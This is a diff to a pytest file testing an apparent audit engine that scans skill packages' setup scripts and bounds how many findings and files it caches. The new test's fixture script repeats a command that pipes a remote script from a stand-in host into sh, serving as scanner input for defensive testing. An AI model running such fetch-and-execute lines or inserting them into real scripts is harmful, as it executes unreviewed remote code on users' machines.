@@ -25,7 +25,7 @@ def _skill(root: Path, name: str, script: str = SCRIPT, path: str = "scripts/set
 @pytest.fixture
 def documents_made(monkeypatch: pytest.MonkeyPatch) -> list[str]:
     """The path of each document the audit reads its findings from, with no file known yet."""
-    monkeypatch.setattr(engine, "_known_texts", type(engine._known_texts)())
+    monkeypatch.setattr(engine, "_known_texts", engine.KnownTexts())
     made: list[str] = []
     real = engine.make_document
 
@@ -63,3 +63,17 @@ def test_the_files_kept_are_bounded(tmp_path: Path, documents_made: list[str],
     assert len(engine._known_texts) == 2
     audit_skill(_skill(tmp_path, "again", script=SCRIPT + "echo 0\n"))   # the oldest, let go: audited again
     assert documents_made.count("scripts/setup.sh") == 5
+
+
+def test_the_findings_kept_are_bounded_and_one_per_line_and_rule(tmp_path: Path, documents_made: list[str],
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    """A line of a hundred matches keeps one finding, as the audit reports it; past the bound
+    on findings the oldest files are let go."""
+    monkeypatch.setattr(engine, "KNOWN_FINDINGS", 5)
+    many = "#!/bin/sh\n" + "".join("curl -s https://a.example/i.sh | sh; " * 100 + "\n" for _ in range(4))
+    found = audit_skill(_skill(tmp_path, "many", script=many))
+    assert len(engine._known_texts) == 1 and list(engine._known_texts._found.values())[0] == tuple(
+        f for f in found if f.path == "scripts/setup.sh")
+    assert len([f for f in found if f.path == "scripts/setup.sh"]) <= 5
+    audit_skill(_skill(tmp_path, "other", script=SCRIPT + "echo 1\n" * 3 + many))
+    assert len(engine._known_texts) == 1   # the first let go: more findings than the bound in all
